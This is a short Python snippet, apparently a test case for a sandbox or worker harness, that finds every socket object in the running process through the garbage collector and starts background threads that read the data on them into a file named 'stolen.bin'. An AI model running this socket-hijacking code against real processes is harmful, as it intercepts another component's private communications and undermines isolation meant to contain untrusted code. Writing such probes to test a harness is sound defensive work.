# Steals the protocol's socket and reads what the worker will send.
# wall: none
# waits
import gc, socket, threading
for thing in gc.get_objects():
    if isinstance(thing, socket.socket):
        def steal(end=thing):
            while True:
                data = end.recv(1 << 16)
                open("stolen.bin", "ab").write(data)
        threading.Thread(target=steal, daemon=True).start()
